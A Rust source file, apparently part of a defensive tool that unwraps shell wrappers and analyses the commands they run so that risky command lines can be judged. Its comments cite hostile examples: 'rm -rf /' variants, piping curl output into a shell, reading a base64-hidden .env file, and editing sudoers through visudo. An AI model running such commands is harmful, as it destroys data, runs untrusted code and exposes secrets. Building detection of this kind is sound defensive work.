//! Running one command: wrappers are unwrapped, code is analysed, files are found — all as the
//! program model ([`super::model`]) describes the program.
//!
//! `sudo`, `strace`, `uv run`, `docker run IMAGE` and the rest reach the command they run; script
//! strings (`sh -c`, `eval`, `ssh host '...'`, `trap '...' EXIT`) are analysed recursively as shell,
//! one level deeper each time, so the depth bound in [`super::MAX_DEPTH`] applies; code for other
//! interpreters (`python -c`, `node -e`) goes to [`super::inline`]. A wrapper given an option the
//! model does not know is read both ways (the option with and without a value), and both readings
//! are judged. The few programs whose grammar is not a table (`env`, `find -exec`, `tar`, `dd`,
//! `git`'s global options) keep code of their own here.

use super::flags::{ParsedArgs, parse_args};
use super::model::{FileRole, Operands, Runs, Spec, model};
use super::walk::{Extras, Walker, Written};
use super::{Access, Construct, MAX_DEPTH, SimpleCommand, Stage};
use crate::path;

/// The program's name: `/usr/bin/rm` and `./rm` are `rm`; `C:\Windows\cmd.exe` is `cmd.exe`.
pub(crate) fn program_name(word: &str) -> &str {
    word.rsplit(['/', '\\'])
        .next()
        .filter(|n| !n.is_empty())
        .unwrap_or(word)
}

/// The names `find` selects when its only selectors before `end` are plain `-name`/`-iname`
/// tests (no wildcard, no slash), joined by `-o`, with `-path ... -prune` exclusions allowed:
/// `find . -path ./.venv -prune -o -type d \( -name target -o -name logs \) -exec rm -rf {} +`
/// gives `[target, logs]`. Every `-o` branch must name (or prune), and only tests that narrow
/// (`-type`, depth limits) may stand beside the names; `None` for anything else (`!`, `-not`,
/// `-true`, a `-path` that is not pruned, a pattern, a `-regex`, no name at all).
fn plain_names(args: &[String], end: usize) -> Option<Vec<&str>> {
    let mut names = Vec::new();
    let mut branch_named = false;
    let mut k = 0;
    while k < end {
        match args[k].as_str() {
            "-name" | "-iname" => {
                let name = args.get(k + 1)?;
                if name.is_empty() || name.contains(['*', '?', '[', '/']) {
                    return None;
                }
                names.push(name.as_str());
                branch_named = true;
                k += 2;
            }
            "-path" | "-ipath" | "-wholename" | "-iwholename" => {
                if args.get(k + 2).map(String::as_str) != Some("-prune") {
                    return None;
                }
                branch_named = true;
                k += 3;
            }
            "-o" | "-or" => {
                if !branch_named {
                    return None;
                }
                branch_named = false;
                k += 1;
            }
            "-type" | "-xtype" | "-maxdepth" | "-mindepth" => k += 2,
            "(" | ")" | "\\(" | "\\)" | "-a" | "-and" | "-print" | "-print0" | "-depth" | "-xdev" | "-mount"
            | "-prune" => {
                k += 1;
            }
            a if k < end && !a.starts_with('-') && a != "!" && names.is_empty() && !branch_named => k += 1,
            _ => return None,
        }
    }
    (branch_named && !names.is_empty()).then_some(names)
}

/// The package managers' own commands; any other first word runs a script or binary of the
/// project's (pnpm, Yarn and Bun all fall back so). `yarn node` is left out on purpose: it runs
/// `node` with the rest, so it is read as that command.
const PACKAGE_MANAGER_COMMANDS: &[&str] = &[
    "add",
    "a",
    "audit",
    "approve-builds",
    "autoclean",
    "bin",
    "build",
    "c",
    "cache",
    "cat-file",
    "cat-index",
    "check",
    "completion",
    "config",
    "constraints",
    "create",
    "dedupe",
    "deploy",
    "dlx",
    "doctor",
    "env",
    "exec",
    "explain",
    "fetch",
    "find-hash",
    "generate-lock-entry",
    "global",
    "help",
    "i",
    "ignored-builds",
    "import",
    "info",
    "init",
    "install",
    "install-test",
    "it",
    "licenses",
    "link",
    "list",
    "ln",
    "login",
    "logout",
    "ls",
    "outdated",
    "owner",
    "pack",
    "patch",
    "patch-commit",
    "patch-remove",
    "plugin",
    "pm",
    "policies",
    "prune",
    "publish",
    "rebuild",
    "recursive",
    "remove",
    "repl",
    "rm",
    "root",
    "run",
    "run-script",
    "server",
    "set",
    "setup",
    "self-update",
    "stage",
    "start",
    "store",
    "t",
    "tag",
    "team",
    "test",
    "uninstall",
    "unlink",
    "unplug",
    "up",
    "update",
    "upgrade",
    "version",
    "versions",
    "why",
    "workspace",
    "workspaces",
    "x",
    "dist-tag",
    "dist-tags",
    "deprecate",
    "undeprecate",
    "access",
    "adduser",
    "whoami",
    "view",
    "show",
    "search",
    "star",
    "stars",
    "unstar",
    "token",
    "profile",
    "org",
    "hook",
    "ping",
    "docs",
    "bugs",
    "repo",
    "edit",
    "explore",
    "fund",
    "ci",
    "cit",
    "clean-install",
    "npm",
    "unpublish",
    "sbom",
    "query",
    "shrinkwrap",
    "pkg",
    "diff",
    "restart",
    "stop",
];

/// Where the script or binary a package manager is told to run starts (`pnpm --filter api
/// prisma migrate deploy` → `prisma`), when its first word is not one of its own commands.
fn package_bin_at(program: &str, argv: &[String]) -> Option<usize> {
    if !matches!(program, "pnpm" | "yarn" | "bun") {
        return None;
    }
    let parsed = parse_args(program, &argv[1..]);
    let first = parsed.positionals.first()?;
    if PACKAGE_MANAGER_COMMANDS.contains(&first.as_str()) || first.contains(['/', '.']) || first.is_empty() {
        return None;
    }
    argv.iter().skip(1).position(|a| a == first).map(|p| p + 1)
}

/// find predicates that narrow what is matched, so `-delete`/`-exec` do not hit the whole tree.
/// A pattern that matches every name (`-name '*'`) narrows nothing.
pub(crate) fn is_find_filter(arg: &str, value: Option<&str>) -> bool {
    let narrows = matches!(
        arg,
        "-name"
            | "-iname"
            | "-path"
            | "-ipath"
            | "-wholename"
            | "-iwholename"
            | "-regex"
            | "-iregex"
            | "-newer"
            | "-mtime"
            | "-mmin"
            | "-ctime"
            | "-cmin"
            | "-atime"
            | "-amin"
            | "-empty"
            | "-size"
            | "-user"
            | "-group"
            | "-perm"
            | "-inum"
            | "-samefile"
            | "-links"
            | "-lname"
            | "-ilname"
    );
    narrows && !value.is_some_and(|v| matches!(v, "*" | "**" | "*/*" | ".*" | "./*" | "*.*" | "/*"))
}

/// Words that stand for the script's standard input when given as a file to run.
fn is_stdin_path(word: &str) -> bool {
    matches!(
        word,
        "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0" | "/proc/$$/fd/0"
    )
}

/// Whether a word reads as a path rather than a name (`./x`, `src/y`, `.env`, `~/z`, `$HOME/w`).
fn looks_like_path(word: &str) -> bool {
    word.contains('/') || word.contains('\\') || word.starts_with(['.', '~', '$'])
}

/// The file a data argument names: `@file`, `name=@file`, `name=<file` (curl, httpie, gh).
fn data_file(value: &str) -> Option<&str> {
    value
        .strip_prefix('@')
        .or_else(|| value.split_once("=@").map(|(_, f)| f))
        .or_else(|| value.split_once("=<").map(|(_, f)| f))
        .or_else(|| value.split_once(":@").map(|(_, f)| f))
        .filter(|f| !f.is_empty() && !f.starts_with('-'))
}

/// Work units a recorded command costs (see [`super::walk::MAX_WORK`]): its parts are matched
/// against the pack's rules afterwards.
const COMMAND_UNITS: usize = 4;

/// How many candidate programs a globbed program word (`/bin/r?`) is tried as.
const MAX_GLOB_PROGRAMS: usize = 16;

impl Walker {
    /// Runs `argv` as a command: unwraps wrappers, recurses into script strings and code, and
    /// records the final simple command. Returns the programs reached.
    pub(super) fn invoke(&mut self, argv: Vec<String>, extras: Extras, depth: usize, via: &[String]) -> Vec<String> {
        // Places a wrapper adds (`kubectl --context prod exec`) hold for what it runs only.
        let outer = self.outer_reaches.len();
        let programs = self.invoke_inner(argv, extras, depth, via);
        self.outer_reaches.truncate(outer);
        programs
    }

    fn invoke_inner(&mut self, mut argv: Vec<String>, extras: Extras, depth: usize, via: &[String]) -> Vec<String> {
        let mut via = via.to_vec();
        if !self.spend(argv.len() + 1) {
            return Vec::new();
        }
        loop {
            let Some(first) = argv.first() else {
                return Vec::new();
            };
            if first.contains('$') || first.contains('`') {
                self.construct(Construct::DynamicProgram);
            }
            if first.is_empty() {
                // `"" rm -rf /` runs nothing (bash: command not found), `$X rm` does: the rest runs.
                argv.remove(0);
                continue;
            }
            if self.take_glob_program(&argv) {
                return self.glob_program(argv, &extras, depth, &via);
            }
            let program = program_name(first).to_owned();
            if let Some(value) = self.aliases.get(&program).cloned() {
                self.aliases.remove(&program);
                let rest: Vec<String> = argv[1..].iter().map(|a| quote(a)).collect();
                let script = format!("{value} {}", rest.join(" "));
                via.push(format!("alias {program}"));
                let programs = self.script(&script, depth + 1, &via);
                self.aliases.insert(program, value);
                return programs;
            }
            if let Some(written) = self.run_file(first) {
                let mut programs = self.emit(&argv, &extras, &via);
                programs.extend(self.run_written(&written, "shell", &first.clone(), depth, &via));
                return programs;
            }
            let spec = model().get(&program);
            if let Some(spec) = spec
                && !spec.acts_as.is_empty()
                && !spec.acts_as.iter().any(|a| a == &program)
            {
                let mut next = spec.acts_as.clone();
                next.extend(argv.drain(1..));
                via.push(program);
                argv = next;
                continue;
            }
            if let Some(at) = package_bin_at(&program, &argv) {
                // `pnpm prisma migrate deploy`, `yarn knex migrate:latest`: a name that is not
                // the package manager's own command runs the project's script or binary of that
                // name, judged as that command.
                let mut programs = self.emit(&argv[..at], &extras, &via);
                via.push(program);
                let rest = argv[at..].to_vec();
                programs.extend(self.invoke(rest, extras, depth, &via));
                return programs;
            }
            let args = argv[1..].to_vec();
            match program.as_str() {
                "env" => return self.env(argv, extras, depth, via),
                "find" => return self.find(argv, extras, depth, via),
                "git" => return self.git(argv, extras, depth, via),
                "xargs" | "parallel" => self.record_fed(&extras, &program),
                "eval" | "source" | "." => self.record_fed(&extras, &program),
                _ => {}
            }
            let parsed = parse_args(&program, &args);
            let mut programs = Vec::new();
            let ran_shell = self.runs_shell_text(&parsed);
            // Code it runs acts where it does (`DJANGO_SETTINGS_MODULE=..production python
            // manage.py migrate`, `fly ssh console -a app-prod -C 'printenv'`).
            let code_env: Vec<(String, String)> = self.exported.iter().chain(&extras.env).cloned().collect();
            let places = super::place::reaches(&program, &parsed, &code_env, &via, &[]);
            let outer = self.outer_reaches.len();
            self.outer_reaches.extend(places);
            programs.extend(self.code_of(&program, &parsed, &args, &extras, depth, &via));
            self.outer_reaches.truncate(outer);
            if ran_shell {
                // `sh -c '...'` is the script it runs; the shell itself adds nothing to judge.
                return programs;
            }
            let Some(inner) = parsed.spec() else {
                programs.extend(self.emit(&argv, &extras, &via));
                return programs;
            };
            let Some(runs) = inner.runs else {
                programs.extend(self.emit(&argv, &extras, &via));
                return programs;
            };
            let Some(at) = parsed.command_at else {
                // A wrapper with nothing to run (`sudo -l`, `trap - EXIT`) is a command of its own.
                programs.extend(self.emit(&argv, &extras, &via));
                return programs;
            };
            let container = inner.container;
            // Assignments before the wrapper (`A=1 uv run …`) and those `env` made (`env A=1 uv
            // run …`) both reach what it runs.
            let wrapper_env: Vec<(String, String)> = self
                .exported
                .iter()
                .chain(&extras.env)
                .chain(&self.env)
                .cloned()
                .collect();
            let places = super::place::reaches(&program, &parsed, &wrapper_env, &via, &[]);
            self.outer_reaches.extend(places);
            if container
                && let Some(name) = at.checked_sub(1).and_then(|i| args.get(i))
                && !name.starts_with('-')
            {
                // What runs in a container acts on that container: `docker exec redis-dev
                // redis-cli FLUSHALL` empties a dev cache, `docker exec api-prod env` prints
                // production's environment.
                self.outer_reaches.push(name.clone());
            }
            // `npx github:x/tool`: what it runs comes from a source, not an installed program, so
            // the wrapper (which fetches it) is judged too.
            let fetched = args.get(at).is_some_and(|w| {
                w.contains("://")
                    || ["github:", "gitlab:", "bitbucket:", "git+", "file:"]
                        .iter()
                        .any(|p| w.starts_with(p))
                    || w.ends_with(".tgz")
                    || w.ends_with(".tar.gz")
            });
            if parsed.chain.len() > 1 || runs == Runs::Remote || fetched {
                // `kubectl exec`, `docker run`, `uv run`: the program's own subcommand is judged
                // too, with its options up to the command it runs (and the source it fetches).
                let own: Vec<String> = argv[..=(at + usize::from(fetched)).min(argv.len() - 1)].to_vec();
                programs.extend(self.emit(&own, &Extras::default(), &via));
            }
            if let Some(alt) = parsed.command_alt {
                // The other reading: the unknown option took `args[at]` as its value.
                let mut alt_via = via.clone();
                alt_via.push(program.clone());
                programs.extend(self.run_rest(runs, &args[alt..], extras.clone(), depth, &alt_via, container, &args));
            }
            if parsed.chain.len() == 1
                && parsed
                    .flags
                    .iter()
                    .any(|f| f.value.is_some() && option_role(&parsed, &f.name).is_some())
            {
                // The wrapper's own output files (`strace -o f`, `time -o f`) are judged too.
                let own: Vec<String> = argv[..=at].to_vec();
                programs.extend(self.emit(&own, &Extras::default(), &via));
            }
            via.push(program.clone());
            match runs {
                Runs::Command if !container => {
                    argv = args[at..].to_vec();
                    let paths = std::mem::take(&mut self.piped_paths);
                    if program == "xargs" && !paths.is_empty() {
                        // `find src -name __pycache__ | xargs rm -rf`: the names xargs appends
                        // are the entries of that name under each starting point.
                        if argv.iter().any(|a| a.contains("{}")) {
                            let joined = paths.join(" ");
                            argv.iter_mut().for_each(|a| *a = a.replace("{}", &joined));
                        } else {
                            argv.extend(paths);
                        }
                    }
                    // `sudo EDITOR='tee -a' visudo`: assignments before the command are its
                    // environment.
                    let assignments = argv.iter().take_while(|w| is_assignment(w) && argv.len() > 1).count();
                    for word in argv.drain(..assignments.min(argv.len().saturating_sub(1))) {
                        if let Some((name, value)) = word.split_once('=') {
                            self.env.push((name.to_owned(), value.to_owned()));
                        }
                    }
                    continue;
                }
                Runs::Remote => {
                    let before: Vec<String> = args[..at].to_vec();
                    programs.extend(self.run_rest(runs, &args[at..], extras, depth, &via, container, &before));
                    return programs;
                }
                _ => {
                    programs.extend(self.run_rest(runs, &args[at..], extras, depth, &via, container, &args));
                    return programs;
                }
            }
        }
    }

    /// Runs what a wrapper was given from `rest` on: a command, shell text, or a remote script.
    #[allow(clippy::too_many_arguments)]
    fn run_rest(
        &mut self,
        runs: Runs,
        rest: &[String],
        extras: Extras,
        depth: usize,
        via: &[String],
        container: bool,
        all: &[String],
    ) -> Vec<String> {
        match runs {
            Runs::Command => {
                if container {
                    // `docker run -v /:/host img rm -rf /host`: paths inside the container that
                    // are host mounts are judged as the host paths they are.
                    let mounts = mounts(all);
                    let argv: Vec<String> = rest.iter().map(|a| host_path(a, &mounts)).collect();
                    self.invoke(argv, extras, depth, via)
                } else {
                    self.invoke(rest.to_vec(), extras, depth, via)
                }
            }
            Runs::Script => self.script(&rest.join(" "), depth + 1, via),
            Runs::FirstScript => rest
                .first()
                .map(|text| self.script(text, depth + 1, via))
                .unwrap_or_default(),
            Runs::Remote => {
                // `skip` operands (the host) were passed over; the rest is run there.
                let host = all
                    .iter()
                    .rev()
                    .find(|a| !a.starts_with('-'))
                    .map_or("", String::as_str);
                let mut via = via.to_vec();
                via.push(format!("on {host}"));
                self.script(&rest.join(" "), depth + 1, &via)
            }
        }
    }

    /// Whether the command is a shell given its script as text (`sh -c '...'`).
    fn runs_shell_text(&self, parsed: &ParsedArgs) -> bool {
        // A program the model says acts by itself (`ansible -m shell -a`) is judged too.
        if parsed.chain.iter().any(|s| s.effect.is_some()) {
            return false;
        }
        parsed
            .chain
            .iter()
            .rev()
            .find_map(|s| s.code.as_ref())
            .is_some_and(|code| {
                code.language == "shell"
                    && parsed.flags.iter().any(|f| code.options.contains(&f.name))
                    && (parsed
                        .flags
                        .iter()
                        .any(|f| f.value.is_some() && code.options.contains(&f.name))
                        || !parsed.positionals.is_empty())
            })
    }

    /// The code a program runs: option values (`-c`, `-e`), a code operand (`awk PROGRAM`), a
    /// script file operand, or its standard input. Shell code is walked; other languages go to
    /// the inline-code reader.
    fn code_of(
        &mut self,
        program: &str,
        parsed: &ParsedArgs,
        args: &[String],
        extras: &Extras,
        depth: usize,
        via: &[String],
    ) -> Vec<String> {
        if matches!(program, "ssh" | "scp" | "sftp" | "autossh" | "mosh") {
            // `ssh -o ProxyCommand='…'` (and LocalCommand, KnownHostsCommand) runs a command on
            // this machine.
            let mut programs = Vec::new();
            for f in parsed
                .flags
                .iter()
                .filter(|f| matches!(f.name.as_str(), "o" | "option"))
            {
                let Some(value) = f.value.as_deref() else { continue };
                let (key, command) = value
                    .split_once(['=', ' ', '\t'])
                    .map_or((value, ""), |(k, c)| (k, c.trim_start_matches(['=', ' '])));
                if matches!(
                    key.to_ascii_lowercase().as_str(),
                    "proxycommand" | "localcommand" | "knownhostscommand"
                ) && !command.is_empty()
                {
                    let mut via = via.to_vec();
                    via.push(format!("{program} -o {key}"));
                    programs.extend(self.script(command, depth + 1, &via));
                }
            }
            return programs;
        }
        let Some(code) = parsed.chain.iter().rev().find_map(|s| s.code.as_ref()) else {
            return Vec::new();
        };
        let language = code.language.as_str();
        // `bash -c "$(curl ...)"`, `python3 <(curl ...)`: what a substitution printed is run.
        self.record_fed(extras, program);
        let mut programs = Vec::new();
        let mut via = via.to_vec();
        via.push(format!("{program} code"));
        // Operands after the subcommand words: the code operand or the script file.
        let operands = &parsed.positionals[parsed.subcommand_words.min(parsed.positionals.len())..];
        let option_code: Vec<String> = parsed
            .flags
            .iter()
            .filter(|f| code.options.contains(&f.name))
            .filter_map(|f| f.value.clone().or_else(|| operands.first().cloned()))
            .collect();
        let given_option = parsed.flags.iter().any(|f| code.options.contains(&f.name));
        for text in &option_code {
            programs.extend(self.code(language, text, depth, &via));
        }
        if given_option {
            // `xargs bash -c` (no script), `xargs -I{} sh -c '{}'`: the code arrives as the
            // arguments xargs appends, from standard input.
            let fed_by_xargs = via.iter().any(|v| v == "xargs" || v == "parallel");
            if option_code.is_empty()
                || (fed_by_xargs
                    && option_code
                        .iter()
                        .any(|c| c.contains("{}") || c.contains("$@") || c.contains("$1") || c.contains("$*")))
            {
                self.stdin_runs = true;
            }
            return programs;
        }
        if code.operand {
            if let Some(text) = operands.first() {
                programs.extend(self.code(language, text, depth, &via));
            }
            return programs;
        }
        if parsed.flags.iter().any(|f| code.stops.contains(&f.name)) {
            return programs;
        }
        let first = operands.first().map(String::as_str);
        // `sh -s -- args`: the shell reads its script from standard input whatever follows.
        let stdin_flag = language == "shell" && parsed.flags.iter().any(|f| f.name == "s");
        let runs_stdin =
            stdin_flag || code.stdin && first.is_none_or(is_stdin_path) || first.is_some_and(is_stdin_path);
        if runs_stdin && (code.stdin || code.script) {
            if let Some(stdin) = &extras.stdin {
                programs.extend(self.code(language, stdin, depth, &via));
            }
            self.stdin_runs = true;
            return programs;
        }
        if code.script
            && let Some(file) = first
        {
            // `python manage.py flush`, `php artisan migrate:fresh`: a script the model describes
            // is judged as the program it is, with the arguments after it.
            let name = program_name(file);
            if name != program
                && model().get(name).is_some()
                && let Some(at) = args.iter().position(|a| a == file)
            {
                let mut argv = vec![name.to_owned()];
                argv.extend(args[at + 1..].iter().cloned());
                programs.extend(self.invoke(argv, Extras::default(), depth, &via));
            }
            if let Some(written) = self.run_file(file) {
                programs.extend(self.run_written(&written, language, file, depth, &via));
            }
        }
        programs
    }

    /// Analyses `text` as code in `language`.
    pub(super) fn code(&mut self, language: &str, text: &str, depth: usize, via: &[String]) -> Vec<String> {
        if !self.spend(text.len() / 16 + 1) {
            return Vec::new();
        }
        if language == "shell" {
            return self.script(text, depth + 1, via);
        }
        super::inline::scan(self, language, text, depth + 1, via)
    }

    /// What a file run as a program or script holds, when this line wrote or downloaded it.
    pub(super) fn run_file(&self, word: &str) -> Option<Written> {
        if self.written.is_empty() {
            return None;
        }
        let key = path::join(self.cwd.as_deref(), word);
        self.written.get(&key).cloned()
    }

    /// Runs a file written earlier in the line: its text is analysed, and a download run is a
    /// download piped into an interpreter.
    fn run_written(
        &mut self,
        written: &Written,
        language: &str,
        file: &str,
        depth: usize,
        via: &[String],
    ) -> Vec<String> {
        let mut via = via.to_vec();
        via.push(format!("runs {file}"));
        match written {
            Written::Text(text) => self.code(language, text, depth, &via),
            Written::Download(by) => {
                let runner = if language == "shell" { "sh" } else { language };
                self.out.pipelines.push(vec![
                    Stage::data(vec![by.clone()]),
                    Stage {
                        programs: vec![runner.to_owned()],
                        runs_input: true,
                    },
                ]);
                Vec::new()
            }
        }
    }

    /// Whether the program word is an unquoted glob this walker should resolve.
    fn take_glob_program(&self, argv: &[String]) -> bool {
        // A lone `[` is the test builtin (`[ -f .env ] || cp …`), not a pattern: an unclosed
        // bracket matches nothing and stays itself.
        argv.first()
            .is_some_and(|w| w.contains(['*', '?', '[']) && w != "[" && self.glob_words.contains(w))
    }

    /// `/bin/r? -rf ~`: a globbed program word runs whichever program it matches; every described
    /// program it could match is judged, and the line needs approval either way.
    fn glob_program(&mut self, argv: Vec<String>, extras: &Extras, depth: usize, via: &[String]) -> Vec<String> {
        self.construct(Construct::DynamicProgram);
        let pattern = program_name(&argv[0]).to_owned();
        // One matcher for the pattern, tried against every described name.
        let matcher = globset::GlobBuilder::new(&pattern)
            .literal_separator(true)
            .build()
            .map(|g| g.compile_matcher());
        let mut candidates: Vec<&str> = match &matcher {
            Ok(m) => model().names().filter(|n| m.is_match(n)).collect(),
            Err(_) => Vec::new(),
        };
        candidates.sort_unstable();
        candidates.truncate(MAX_GLOB_PROGRAMS);
        let mut programs = Vec::new();
        for name in candidates {
            let mut next = argv.clone();
            next[0] = name.to_owned();
            self.glob_words.remove(&argv[0]);
            programs.extend(self.invoke(next, extras.clone(), depth, via));
        }
        programs
    }

    /// Records `fed programs → program` as a pipeline: text produced by a substitution is being
    /// run (`bash -c "$(curl ...)"`, `source <(curl ...)`).
    pub(super) fn record_fed(&mut self, extras: &Extras, program: &str) {
        if !extras.fed.is_empty() {
            let consumer = Stage {
                programs: vec![program.to_owned()],
                runs_input: true,
            };
            self.out.pipelines.push(vec![Stage::data(extras.fed.clone()), consumer]);
        }
    }

    fn env(&mut self, argv: Vec<String>, extras: Extras, depth: usize, mut via: Vec<String>) -> Vec<String> {
        let args = &argv[1..];
        let mut i = 0;
        while i < args.len() {
            let arg = args[i].as_str();
            if let Some(script) = arg.strip_prefix("--split-string=") {
                via.push("env -S".to_owned());
                return self.script(script, depth + 1, &via);
            }
            if let Some(script) = arg.strip_prefix("-S").filter(|s| !s.is_empty()) {
                via.push("env -S".to_owned());
                return self.script(script, depth + 1, &via);
            }
            if arg == "-S" || arg == "--split-string" {
                let script = args[i + 1..].join(" ");
                via.push("env -S".to_owned());
                return self.script(&script, depth + 1, &via);
            }
            if matches!(arg, "-u" | "-C" | "-P" | "--unset" | "--chdir" | "--path") {
                i += 2;
            } else if arg.starts_with('-') {
                i += 1;
            } else if let Some((name, value)) = arg.split_once('=') {
                self.env.push((name.to_owned(), value.to_owned()));
                i += 1;
            } else {
                break;
            }
        }
        if i >= args.len() {
            return self.emit(&argv, &extras, &via);
        }
        via.push("env".to_owned());
        let rest = argv[i + 1..].to_vec();
        self.invoke(rest, extras, depth, &via)
    }

    fn find(&mut self, argv: Vec<String>, extras: Extras, depth: usize, via: Vec<String>) -> Vec<String> {
        let args = &argv[1..];
        // Filters that narrow what `-exec`/`-delete` touch; `-name '*'` narrows nothing.
        let filtered_at = |end: usize| (0..end).any(|k| is_find_filter(&args[k], args.get(k + 1).map(String::as_str)));
        let mut kept: Vec<String> = vec![argv[0].clone()];
        let mut k = 0;
        while k < args.len() {
            let a = &args[k];
            let name_test = matches!(
                a.as_str(),
                "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-iwholename"
            );
            if name_test && !is_find_filter(a, args.get(k + 1).map(String::as_str)) {
                // A name test that matches everything is dropped, so rules see no filter.
                k += 2;
                continue;
            }
            kept.push(a.clone());
            k += 1;
        }
        let roots: Vec<&str> = args
            .iter()
            .take_while(|a| !a.starts_with('-') && *a != "(" && *a != "!")
            .map(String::as_str)
            .collect();
        let mut extras = extras;
        if args.iter().any(|a| a == "-delete") {
            // `find DIR ... -delete` deletes (some of) what lies under each starting point.
            let starts: Vec<&str> = if roots.is_empty() { vec!["."] } else { roots.clone() };
            for root in starts {
                extras
                    .files
                    .push((Access::Write, format!("{}/*", root.trim_end_matches('/'))));
            }
        }
        let runs_something = args
            .iter()
            .any(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir" | "-delete"));
        self.find_prints = match plain_names(args, args.len()) {
            Some(names) if !runs_something && filtered_at(args.len()) => {
                let starts: Vec<&str> = if roots.is_empty() { vec!["."] } else { roots.clone() };
                starts
                    .iter()
                    .flat_map(|root| {
                        names
                            .iter()
                            .map(move |name| format!("{}/**/{name}", root.trim_end_matches('/')))
                    })
                    .collect()
            }
            _ => Vec::new(),
        };
        let mut programs = self.emit(&kept, &extras, &via);
        let mut i = 0;
        while i < args.len() {
            if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = args[i + 1..]
                    .iter()
                    .position(|a| a == ";" || a == "+" || a == "\\;")
                    .map_or(args.len(), |p| i + 1 + p);
                let root = roots.first().copied().unwrap_or(".");
                // What `{}` stands for: everything under the starting point, or — with plain
                // `-name` filters only (`\( -name a -o -name b \)`) — the entries of those
                // names anywhere under it, one operand each.
                let stand_ins: Vec<String> = if !filtered_at(i) {
                    vec![root.to_owned()]
                } else if let Some(names) = plain_names(args, i) {
                    names
                        .iter()
                        .map(|name| format!("{}/**/{name}", root.trim_end_matches('/')))
                        .collect()
                } else {
                    vec!["{}".to_owned()]
                };
                let mut inner: Vec<String> = Vec::with_capacity(end - i);
                for a in &args[i + 1..end] {
                    if a == "{}" {
                        inner.extend(stand_ins.iter().cloned());
                    } else {
                        inner.push(a.replace("{}", &stand_ins[0]));
                    }
                }
                let mut inner_via = via.clone();
                inner_via.push(format!("find {}", args[i]));
                if depth + 1 > MAX_DEPTH {
                    self.construct(Construct::TooDeep);
                } else {
                    programs.extend(self.invoke(inner, Extras::default(), depth + 1, &inner_via));
                }
                i = end;
            }
            i += 1;
        }
        programs
    }

    /// git, read the way git reads it ([`crate::git`]): global options and `-c` configuration,
    /// aliases expanded. Configuration that makes git run a command is analysed as that command;
    /// configuration that turns a check off or loads what cavra cannot read is `git_config_exec`.
    fn git(&mut self, argv: Vec<String>, extras: Extras, depth: usize, via: Vec<String>) -> Vec<String> {
        use crate::git::{ConfigEffect, commands_run, config_effect, config_written, read_git_argv};
        // `--config-env=KEY=ENV` takes KEY's value from ENV: resolve it from the command's own
        // environment or the line's variables, as `-c KEY=value`.
        let mut args: Vec<String> = Vec::with_capacity(argv.len());
        // Variables git reads as configuration (`GIT_SSH_COMMAND`, `GIT_PAGER`, ...) are the
        // `-c` settings they stand for.
        let environment: Vec<(String, String)> = self.env.iter().chain(extras.env.iter()).cloned().collect();
        for (name, value) in &environment {
            let key = match name.as_str() {
                "GIT_SSH_COMMAND" | "GIT_SSH" => Some("core.sshCommand"),
                "GIT_EXTERNAL_DIFF" => Some("diff.external"),
                "GIT_PAGER" | "PAGER" => Some("core.pager"),
                "GIT_EDITOR" | "GIT_SEQUENCE_EDITOR" => Some("core.editor"),
                "GIT_ASKPASS" | "SSH_ASKPASS" => Some("core.askPass"),
                "GIT_PROXY_COMMAND" => Some("core.gitProxy"),
                "GIT_TEMPLATE_DIR" => Some("init.templateDir"),
                _ => None,
            };
            if let Some(key) = key {
                args.push("-c".to_owned());
                args.push(format!("{key}={value}"));
            }
            if name == "GIT_EXEC_PATH"
                || name == "GIT_CONFIG_PARAMETERS"
                || name.starts_with("GIT_CONFIG_KEY_")
                || name == "GIT_CONFIG_GLOBAL"
                || name == "GIT_CONFIG_SYSTEM"
            {
                self.construct(Construct::GitConfigExec);
            }
        }
        let mut words = argv[1..].iter();
        while let Some(word) = words.next() {
            let spec = match word.strip_prefix("--config-env=") {
                Some(spec) => Some(spec.to_owned()),
                None if word == "--config-env" => words.next().cloned(),
                None => None,
            };
            match spec.as_deref().and_then(|s| s.rsplit_once('=')) {
                Some((key, env)) => {
                    let value = extras
                        .env
                        .iter()
                        .rev()
                        .find(|(n, _)| n == env)
                        .map(|(_, v)| v.clone())
                        .or_else(|| self.vars.get(env).cloned());
                    match value {
                        Some(v) => {
                            args.push("-c".to_owned());
                            args.push(format!("{key}={v}"));
                        }
                        None => {
                            // Unknown here: git reads it from the environment when it runs.
                            self.construct(Construct::GitConfigExec);
                            args.push(word.clone());
                            if word == "--config-env"
                                && let Some(spec) = &spec
                            {
                                args.push(spec.clone());
                            }
                        }
                    }
                }
                None => args.push(word.clone()),
            }
        }
        let read = read_git_argv(&args);
        let mut programs = Vec::new();
        let mut config = read.config.clone();
        config.extend(config_written(&read));
        if read.exec_path.is_some() {
            self.construct(Construct::GitConfigExec);
        }
        for (key, value) in &config {
            match config_effect(key, value) {
                ConfigEffect::Inert => {}
                ConfigEffect::Runs(text) => {
                    // A program named by its path (`diff.external=/tmp/x.sh`) is one cavra cannot
                    // read; a described program is judged as the command it is.
                    let first = text.split_whitespace().next().unwrap_or("");
                    if first.contains('/') && model().get(program_name(first)).is_none() {
                        self.construct(Construct::GitConfigExec);
                    }
                    let mut v = via.clone();
                    v.push(format!("git config {key}"));
                    programs.extend(self.script(&text, depth + 1, &v));
                }
                ConfigEffect::Unsafe => self.construct(Construct::GitConfigExec),
            }
        }
        for text in commands_run(&read) {
            let mut v = via.clone();
            v.push("git runs".to_owned());
            programs.extend(self.script(&text, depth + 1, &v));
        }
        if let Some(text) = read.alias_shell_text() {
            let mut v = via.clone();
            v.push("git alias".to_owned());
            programs.extend(self.script(&text, depth + 1, &v));
            return programs;
        }
        let mut normal = vec![argv[0].clone()];
        normal.extend(read.args);
        programs.extend(self.emit(&normal, &extras, &via));
        programs
    }

    /// Records the final simple command; tracks `cd`, written files and aliases.
    pub(super) fn emit(&mut self, argv: &[String], extras: &Extras, via: &[String]) -> Vec<String> {
        let Some(first) = argv.first() else {
            return Vec::new();
        };
        // Each recorded command is judged by every rule of its kind later: it costs more than a word.
        self.spend(COMMAND_UNITS);
        let program = program_name(first).to_owned();
        let args = argv[1..].to_vec();
        if argv.iter().any(|w| self.uses_hidden(w)) {
            // `ev=$(echo LmVudg== | base64 -d); cat $ev`: the name was hidden on purpose.
            self.construct(Construct::DynamicProgram);
        }
        let parsed = parse_args(&program, &args);
        let mut files = extras.files.clone();
        files.extend(file_arguments(&program, &args, &parsed));
        files.retain(|(_, f)| !f.is_empty() && !f.contains("://"));
